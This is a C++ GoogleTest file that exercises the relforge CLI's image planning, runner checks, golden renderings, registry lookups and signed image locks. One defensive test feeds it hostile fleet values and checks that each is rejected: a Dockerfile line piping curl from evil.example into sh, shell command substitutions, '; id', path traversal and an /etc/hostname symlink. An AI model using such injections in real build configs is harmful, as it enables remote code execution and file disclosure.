// `relforge images` and `relforge runners` through the real binary: the examples' consistent
// fleets, the golden renderings (tests/fixtures/fleet/), a loopback registry, the lock and its
// place in the signed provenance, and each bad input's message and exit code.
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <mutex>
#include <regex>
#include <set>
#include <string>
#include <thread>
#include <vector>

#include <nlohmann/json.hpp>

#include "platform/http_server.hpp"
#include "tests/support/run.hpp"

namespace {

namespace fs = std::filesystem;
using relforge::test::relforge;
using relforge::test::run_shell;
using relforge::test::shell_quote;
using relforge::test::slurp;
using relforge::test::source_path;
using Json = nlohmann::json;

constexpr const char* k_digest = "sha256:4f53cda18c2baa0c0354bb5f9a3ecbe5ed12ab4d8e11ba873c2f11161202b945";

std::string config(const std::string& example) {
  return shell_quote(source_path("examples/" + example + "/relforge.toml").string());
}

class FleetCli : public ::testing::Test {
protected:
  void SetUp() override {
    m_dir = fs::temp_directory_path() / ("relforge-fleet-e2e-" + std::to_string(::getpid()) + "-" +
                                         ::testing::UnitTest::GetInstance()->current_test_info()->name());
    fs::remove_all(m_dir);
    fs::create_directories(m_dir);
  }
  void TearDown() override { fs::remove_all(m_dir); }
  std::string tmp(const std::string& relative) const { return shell_quote((m_dir / relative).string()); }
  fs::path m_dir;
};

// Every file under `root`, relative, sorted.
std::set<std::string> tree(const fs::path& root) {
  std::set<std::string> out;
  if (!fs::exists(root)) return out;
  for (const auto& entry : fs::recursive_directory_iterator(root)) {
    if (entry.is_regular_file()) out.insert(fs::relative(entry.path(), root).generic_string());
  }
  return out;
}

// Compares a rendered tree with its golden copy (tests/runner_images/golden_test.cpp rewrites them).
void expect_golden(const fs::path& rendered, const std::string& golden_relative) {
  const fs::path golden = source_path("tests/fixtures/fleet/" + golden_relative);
  const auto got = tree(rendered);
  ASSERT_FALSE(got.empty()) << "nothing rendered under " << rendered;
  EXPECT_EQ(got, tree(golden)) << "the rendered files differ from " << golden
                               << " (RELFORGE_UPDATE_GOLDEN=1 relforge_runner_images_tests rewrites it)";
  for (const auto& file : got) {
    EXPECT_EQ(slurp(rendered / file), slurp(golden / file)) << golden_relative << "/" << file;
  }
}

TEST(FleetExamples, PytorchPlanNamesEveryImageTheMatrixUsesWithAContentTag) {
  const auto plan = relforge("images plan --config " + config("pytorch") + " --json");
  ASSERT_EQ(plan.exit_code, 0) << plan.err;
  const auto images = Json::parse(plan.out);
  ASSERT_EQ(images.size(), 14u) << plan.out;  // 9 x86_64 + 5 aarch64
  std::set<std::string> planned;
  const std::regex tag("[a-z0-9.-]+-[0-9a-f]{12}");
  for (const auto& image : images) {
    EXPECT_TRUE(std::regex_match(image["tag"].get<std::string>(), tag)) << image.dump();
    EXPECT_EQ(image["tag"].get<std::string>().rfind(image["variant"].get<std::string>() + "-", 0), 0u);
    EXPECT_EQ(image["status"], "unchecked");
    planned.insert(image["name"].get<std::string>() + ":" + image["variant"].get<std::string>());
  }
  // Consistent with the matrix: every Linux cell's container_image is one planned image, and back.
  std::set<std::string> used;
  for (const std::string channel : {"nightly", "test", "release"}) {
    const auto cells = relforge("matrix expand --config " + config("pytorch") + " --channel " + channel +
                                " --os 'linux*' --format json");
    ASSERT_EQ(cells.exit_code, 0) << cells.err;
    for (const auto& cell : Json::parse(cells.out)) used.insert(cell["container_image"].get<std::string>());
  }
  EXPECT_EQ(planned, used);

  const auto text = relforge("images plan --config " + config("pytorch"));
  ASSERT_EQ(text.exit_code, 0) << text.err;
  EXPECT_NE(text.out.find("14 images (not checked"), std::string::npos) << text.out;
}

TEST(FleetExamples, PytorchRunnersCheckIsClean) {
  const auto check = relforge("runners check --config " + config("pytorch"));
  EXPECT_EQ(check.exit_code, 0) << check.out << check.err;
  EXPECT_NE(check.out.find("0 errors, 0 warnings"), std::string::npos) << check.out;
  const auto json = relforge("runners check --config " + config("pytorch") + " --json");
  ASSERT_EQ(json.exit_code, 0);
  const auto report = Json::parse(json.out);
  EXPECT_EQ(report["cells"], 155 + 155 + 111);
  for (const auto& use : report["classes"]) EXPECT_GT(use["cells"].get<int>(), 0) << use.dump();
}

TEST(FleetExamples, MinitensorPlanAndCheckAreClean) {
  const auto plan = relforge("images plan --config " + config("minitensor") + " --channel nightly --json");
  ASSERT_EQ(plan.exit_code, 0) << plan.err;
  EXPECT_EQ(Json::parse(plan.out).size(), 5u);
  const auto check = relforge("runners check --config " + config("minitensor"));
  EXPECT_EQ(check.exit_code, 0) << check.out << check.err;
  EXPECT_NE(check.out.find("0 errors, 0 warnings"), std::string::npos) << check.out;
}

// tests/runner_images/golden_test.cpp lints and parses the renderings; here the CLI must write
// exactly the same files.
TEST_F(FleetCli, RenderWritesTheGoldenFiles) {
  for (const std::string example : {"pytorch", "minitensor"}) {
    const auto render =
        relforge("images render --config " + config(example) + " --out " + tmp(example + "/images"));
    ASSERT_EQ(render.exit_code, 0) << render.err;
    EXPECT_NE(render.out.find(example == "pytorch" ? "14 images rendered" : "5 images rendered"),
              std::string::npos)
        << render.out;
    expect_golden(m_dir / example / "images", example + "/images");
    for (const std::string format : {"scale-config", "arc"}) {
      const auto out = example + "/" + format;
      const auto runners = relforge("runners render --config " + config(example) + " --format " + format +
                                    " --out " + tmp(out));
      ASSERT_EQ(runners.exit_code, 0) << runners.err;
      expect_golden(m_dir / out, out);
    }
  }
  // Without --out the documents go to stdout; Windows and macOS classes get no ARC values.
  const auto arc = relforge("runners render --config " + config("pytorch") + " --format arc");
  ASSERT_EQ(arc.exit_code, 0);
  EXPECT_NE(arc.out.find("runnerScaleSetName: \"linux.g5.4xlarge.nvidia.gpu\""), std::string::npos);
  EXPECT_NE(arc.err.find("'windows.4xlarge' is not Linux"), std::string::npos) << arc.err;
  EXPECT_EQ(tree(source_path("tests/fixtures/fleet/pytorch/arc")).size(), 4u);
}

// A loopback registry: HEAD /v2/<repo>/manifests/<tag> answers `m_status` (200 with a digest for
// the tags in m_present).
class LoopbackRegistry {
public:
  explicit LoopbackRegistry(int status) : m_status(status) {
    m_server.route("GET", "/v2/(.+)/manifests/([^/]+)",
                   [this](const relforge::platform::HttpRequest& request) {
                     relforge::platform::HttpResponse response;
                     const std::lock_guard guard(m_mutex);
                     ++m_requests;
                     if (m_present.count(request.matches[1]) > 0) {
                       response.status = 200;
                       response.headers.push_back({"Docker-Content-Digest", k_digest});
                     } else {
                       response.status = m_status;
                     }
                     return response;
                   });
    m_url = "http://127.0.0.1:" + std::to_string(*m_server.bind("127.0.0.1", 0));
    m_thread = std::thread([this] { (void)m_server.serve(); });
  }
  ~LoopbackRegistry() {
    m_server.stop();
    m_thread.join();
  }
  void present(const std::string& tag) {
    const std::lock_guard guard(m_mutex);
    m_present.insert(tag);
  }
  int requests() {
    const std::lock_guard guard(m_mutex);
    return m_requests;
  }
  std::string m_url;

private:
  int m_status;
  std::set<std::string> m_present;
  int m_requests = 0;
  std::mutex m_mutex;
  relforge::platform::HttpServer m_server;
  std::thread m_thread;
};

TEST(FleetRegistry, MissingTagsGetBuildCommandsAndPresentOnesTheirDigest) {
  const auto plan = relforge("images plan --config " + config("minitensor") + " --channel nightly --json");
  ASSERT_EQ(plan.exit_code, 0);
  const auto images = Json::parse(plan.out);
  LoopbackRegistry registry(404);
  registry.present(images[0]["tag"]);  // cpu is pushed
  const auto checked = relforge("images plan --config " + config("minitensor") +
                                " --channel nightly --check-registry " + registry.m_url);
  EXPECT_EQ(checked.exit_code, 0) << checked.err;
  EXPECT_EQ(registry.requests(), 5);
  EXPECT_NE(checked.out.find("5 images: 1 present, 4 missing, 0 unknown"), std::string::npos) << checked.out;
  EXPECT_NE(checked.out.find(k_digest), std::string::npos);
  const std::string cpu = images[0]["reference"];
  const std::string cuda = images[1]["reference"];
  EXPECT_EQ(checked.out.find("docker push " + cpu), std::string::npos) << "present: no commands";
  EXPECT_NE(checked.out.find("docker build --target final -t " + cuda + " .relforge/images/"),
            std::string::npos)
      << checked.out;
  EXPECT_NE(checked.out.find("docker push " + cuda + "\n"), std::string::npos);
}

TEST(FleetRegistry, UnauthorizedAndServerErrorsPrintThePlanWithUnknown) {
  for (const auto& [status, exit_code] : {std::pair{401, 8}, std::pair{500, 7}}) {
    LoopbackRegistry registry(status);
    const auto checked = relforge("images plan --config " + config("minitensor") +
                                  " --channel nightly --check-registry " + registry.m_url);
    EXPECT_EQ(checked.exit_code, exit_code) << checked.out << checked.err;
    EXPECT_NE(checked.out.find("unknown"), std::string::npos) << checked.out;
    EXPECT_NE(checked.out.find("5 images: 0 present, 0 missing, 5 unknown"), std::string::npos)
        << checked.out;
    EXPECT_NE(checked.err.find("5 of 5 tags could not be checked"), std::string::npos) << checked.err;
    EXPECT_NE(checked.err.find("the registry answered " + std::to_string(status)), std::string::npos)
        << checked.err;
  }
  // Nobody listening: a network error, the plan still printed.
  std::string url;
  { url = LoopbackRegistry(404).m_url; }
  const auto unreachable =
      relforge("images plan --config " + config("minitensor") + " --channel nightly --check-registry " + url);
  EXPECT_EQ(unreachable.exit_code, 7) << unreachable.err;
  EXPECT_NE(unreachable.err.find("registry unreachable"), std::string::npos) << unreachable.err;
  EXPECT_NE(unreachable.out.find("unknown"), std::string::npos);
}

TEST_F(FleetCli, LockIsWrittenNextToTheLedgerAndSignedProvenanceReferencesIt) {
  LoopbackRegistry registry(404);
  const auto plan = relforge("images plan --config " + config("minitensor") + " --channel nightly --json");
  ASSERT_EQ(plan.exit_code, 0);
  const auto images = Json::parse(plan.out);
  registry.present(images[1]["tag"]);  // cuda12.6
  const auto lock =
      relforge("images lock --config " + config("minitensor") + " --channel nightly --state-dir " +
               tmp("state") + " --check-registry " + registry.m_url);
  ASSERT_EQ(lock.exit_code, 0) << lock.err;
  EXPECT_NE(lock.out.find("locked 30 cells on nightly to 5 images"), std::string::npos) << lock.out;
  const auto path = m_dir / "state/images.lock.json";
  ASSERT_TRUE(fs::exists(path));
  const auto locked = Json::parse(slurp(path));
  ASSERT_EQ(locked["cells"].size(), 30u);
  Json cell;
  for (const auto& entry : locked["cells"]) {
    if (entry["id"] == "3.12-cu126") cell = entry;
  }
  ASSERT_FALSE(cell.is_null());
  EXPECT_EQ(cell["runner_class"], "linux.g5.4xlarge.nvidia.gpu");
  EXPECT_EQ(cell["image"], images[1]["reference"]);
  EXPECT_EQ(cell["digest"], k_digest);

  // sign --images-lock: the lock is a resolved dependency, and the cell's image comes from it.
  ASSERT_EQ(relforge("keys generate --out " + tmp("keys")).exit_code, 0);
  std::ofstream(m_dir / "wheel.whl") << "not really a wheel";
  const auto sign = relforge("sign " + tmp("wheel.whl") + " --key " + tmp("keys/signing.key") +
                             " --cell 3.12-cu126 --images-lock " + shell_quote(path.string()));
  ASSERT_EQ(sign.exit_code, 0) << sign.err;
  const auto bundle = Json::parse(slurp(m_dir / "wheel.whl.sigstore.json"));
  const std::string payload_b64 = bundle["dsseEnvelope"]["payload"];
  const auto decoded = run_shell("printf %s " + shell_quote(payload_b64) + " | base64 -d");
  const auto statement = Json::parse(decoded.out);
  const auto& dependencies = statement["predicate"]["buildDefinition"]["resolvedDependencies"];
  const std::string lock_sha =
      run_shell("sha256sum " + shell_quote(path.string()) + " | cut -c1-64").out.substr(0, 64);
  bool has_lock = false, has_image = false;
  for (const auto& dependency : dependencies) {
    if (dependency["uri"] == path.generic_string() && dependency["digest"]["sha256"] == lock_sha)
      has_lock = true;
    if (dependency["uri"] == images[1]["reference"] &&
        dependency["digest"]["sha256"] == std::string(k_digest).substr(7))
      has_image = true;
  }
  EXPECT_TRUE(has_lock) << dependencies.dump(2);
  EXPECT_TRUE(has_image) << dependencies.dump(2);
  EXPECT_EQ(relforge("verify " + tmp("wheel.whl") + " --key " + tmp("keys/signing.pub")).exit_code, 0);
}

// A copy of minitensor with a fleet the test breaks in one place.
class BrokenFleet : public FleetCli {
protected:
  void SetUp() override {
    FleetCli::SetUp();
    const auto example = source_path("examples/minitensor");
    fs::copy(example / "relforge.toml", m_dir / "relforge.toml");
    fs::copy(example / "images", m_dir / "images", fs::copy_options::recursive);
    m_fleet = slurp(example / "fleet.toml");
  }
  relforge::test::RunResult run(const std::string& command, const std::string& from, const std::string& to) {
    const auto at = m_fleet.find(from);
    EXPECT_NE(at, std::string::npos) << from;
    std::string text = m_fleet;
    if (at != std::string::npos) text.replace(at, from.size(), to);
    std::ofstream(m_dir / "fleet.toml", std::ios::trunc) << text;
    return relforge(command + " --config " + tmp("relforge.toml"));
  }
  std::string m_fleet;
};

TEST_F(BrokenFleet, ACellWithoutAnImageDefinition) {
  const auto result = run("images plan", "accelerators = [\"xpu\"]",
                          "accelerators = [\"cpu\"]\nwhen = { python = \"3.99\" }");
  EXPECT_EQ(result.exit_code, 2) << result.err;
  EXPECT_EQ(result.out, "");
  EXPECT_NE(result.err.find("cells have no image definition (accel 'xpu')"), std::string::npos) << result.err;
}

TEST_F(BrokenFleet, ALabelOverFortyFiveCharacters) {
  const std::string label = "linux.g5.4xlarge.nvidia.gpu.ephemeral.canary.x";
  const auto result = run("runners check", "label = \"linux.2xlarge\"", "label = \"" + label + "\"");
  EXPECT_EQ(result.exit_code, 1) << result.out << result.err;
  EXPECT_NE(result.out.find("the label is 46 characters"), std::string::npos) << result.out;
  EXPECT_NE(result.out.find("run on 'linux.2xlarge', which is no runner class"), std::string::npos)
      << result.out;
  const auto arc = relforge("runners render --format arc --config " + tmp("relforge.toml"));
  EXPECT_EQ(arc.exit_code, 2);
  EXPECT_NE(arc.err.find("limited to 45"), std::string::npos) << arc.err;
}

TEST_F(BrokenFleet, AGpuCellOnACpuOnlyClass) {
  const auto result = run("runners check", "gpu = { type = \"mi300x\", vendor = \"amd\", count = 1 }\n", "");
  EXPECT_EQ(result.exit_code, 1) << result.out << result.err;
  EXPECT_NE(result.out.find(
                "18 GPU cells (e.g. 3.10-rocm7.2 on nightly) run on 'linux.rocm.gpu', a class without GPUs"),
            std::string::npos)
      << result.out;
}

TEST_F(BrokenFleet, AnImageDefinitionReferencingAMissingFile) {
  const auto result =
      run("images render", "script = \"images/install_rocm.sh\"", "script = \"images/install_rocm7.sh\"");
  EXPECT_EQ(result.exit_code, 2) << result.err;
  EXPECT_NE(result.err.find("image 'ghcr.io/minitensor/manylinux_2_28-builder:rocm7.2' copies "
                            "'images/install_rocm7.sh', which does not exist"),
            std::string::npos)
      << result.err;
}

TEST_F(BrokenFleet, ContentTagModePutsTheTagInEachCellsContainerImage) {
  // The example itself runs in content-tag mode: every cell names exactly one planned image.
  const auto result = run("matrix expand --format json --channel nightly",
                          "container_image = \"content-tag\"", "container_image = \"content-tag\"");
  ASSERT_EQ(result.exit_code, 0) << result.err;
  const auto plan = relforge("images plan --json --channel nightly --config " + tmp("relforge.toml"));
  std::set<std::string> references;
  for (const auto& image : Json::parse(plan.out)) references.insert(image["reference"]);
  const auto cells = Json::parse(result.out);
  ASSERT_EQ(cells.size(), 30u);
  for (const auto& cell : cells) EXPECT_EQ(references.count(cell["container_image"]), 1u) << cell.dump();
}

TEST_F(BrokenFleet, MatrixModeKeepsTheMatrixsOwnContainerImage) {
  const auto result = run("matrix expand --format json --channel nightly",
                          "container_image = \"content-tag\"", "container_image = \"matrix\"");
  ASSERT_EQ(result.exit_code, 0) << result.err;
  const auto cells = Json::parse(result.out);
  ASSERT_EQ(cells.size(), 30u);
  for (const auto& cell : cells) {
    EXPECT_EQ(cell["container_image"].get<std::string>(),
              "ghcr.io/minitensor/manylinux_2_28-builder:" + cell["accel.image"].get<std::string>())
        << cell.dump();
  }
}

TEST_F(BrokenFleet, AValueThatWouldAddAnInstructionAPathOrAShellWordIsRefusedAndNothingIsWritten) {
  // The fleet is config a pull request can change: its values are data in the Dockerfile, the
  // folder under --out and the docker command lines, never an instruction, a path or a command.
  struct Hostile {
    const char* from;
    std::string to;
    const char* says;
  };
  for (const auto& c :
       {Hostile{"driver = \"560.35.05\"", "driver = \"560.35.05\\nRUN curl http://evil.example/x | sh\\n#\"",
                "cuda driver '560.35.05\nRUN curl"},
        Hostile{"cudnn = \"9.15.1.9\"", "cudnn = \"$(touch /tmp/pwned)\"",
                "cuda cudnn '$(touch /tmp/pwned)'"},
        Hostile{"base = \"quay.io/pypa/manylinux_2_28_x86_64\"",
                "base = \"quay.io/pypa/manylinux_2_28_x86_64 AS base\\nRUN echo injected\\nFROM scratch\"",
                "is not an image reference"},
        Hostile{"variant = \"cpu\"", "variant = \"../../../../escaped\"", "is not a tag prefix"},
        Hostile{"variant = \"cpu\"", "variant = \"cpu$(touch${IFS}/tmp/PWNED)\"", "is not a tag prefix"},
        Hostile{"name = \"ghcr.io/minitensor/manylinux_2_28-builder\"", "name = \"ghcr.io/Mini Tensor\"",
                "is not a repository name"},
        Hostile{"gcc_toolset = \"13\"", "gcc_toolset = \"13; id\"", "gcc_toolset '13; id'"},
        Hostile{"accelerators = [\"cpu\"]", "accelerators = [\"cpu\"]\nfiles = [\"/etc/hostname\"]",
                "copies '/etc/hostname': files are named relative to the fleet file's folder"},
        Hostile{"accelerators = [\"cpu\"]", "accelerators = [\"cpu\"]\nfiles = [\"images/../../x\"]",
                "without '..'"}}) {
    SCOPED_TRACE(c.to);
    for (const std::string& command : {"images render --out " + tmp("out"), std::string("images plan")}) {
      const auto result = run(command, c.from, c.to);
      EXPECT_EQ(result.exit_code, 2) << result.out << result.err;
      EXPECT_EQ(result.out, "");
      EXPECT_NE(result.err.find(c.says), std::string::npos) << result.err;
    }
    EXPECT_FALSE(fs::exists(m_dir / "out"));
  }
  // A link in the repository to a file outside it is refused too.
  fs::create_symlink("/etc/hostname", m_dir / "images/hostname");
  const auto linked = run("images render --out " + tmp("out"), "accelerators = [\"cpu\"]",
                          "accelerators = [\"cpu\"]\nfiles = [\"images/hostname\"]");
  EXPECT_EQ(linked.exit_code, 2) << linked.err;
  EXPECT_NE(linked.err.find("which leads to /etc/hostname, outside"), std::string::npos) << linked.err;
  EXPECT_FALSE(fs::exists(m_dir / "out"));
}

TEST_F(BrokenFleet, TheSameDefinitionInAnotherFileKeepsItsTags) {
  // Tags are content addresses: moving the fleet to another file changes no image.
  const auto before = run("images plan --json --channel nightly", "variant = \"cpu\"", "variant = \"cpu\"");
  ASSERT_EQ(before.exit_code, 0) << before.err;
  fs::rename(m_dir / "fleet.toml", m_dir / "builder-fleet.toml");
  std::string config = slurp(m_dir / "relforge.toml");
  config.replace(config.find("include = \"fleet.toml\""), 22, "include = \"builder-fleet.toml\"");
  std::ofstream(m_dir / "relforge.toml", std::ios::trunc) << config;
  const auto after = relforge("images plan --json --channel nightly --config " + tmp("relforge.toml"));
  ASSERT_EQ(after.exit_code, 0) << after.err;
  EXPECT_EQ(Json::parse(after.out), Json::parse(before.out));
}

TEST_F(FleetCli, ALockTheRegistryCouldNotCompleteReplacesNoLock) {
  LoopbackRegistry registry(404);
  const std::string lock_command =
      "images lock --config " + config("minitensor") + " --channel nightly --state-dir " + tmp("state");
  ASSERT_EQ(relforge(lock_command + " --check-registry " + registry.m_url).exit_code, 0);
  const std::string good = slurp(m_dir / "state/images.lock.json");
  for (const int status : {500, 401}) {
    LoopbackRegistry failing(status);
    const auto failed = relforge(lock_command + " --check-registry " + failing.m_url);
    EXPECT_EQ(failed.exit_code, status == 401 ? 8 : 7) << failed.err;
    EXPECT_EQ(failed.out, "");
    EXPECT_NE(failed.err.find("nothing was written"), std::string::npos) << failed.err;
    EXPECT_EQ(slurp(m_dir / "state/images.lock.json"), good);
  }
}

}  // namespace
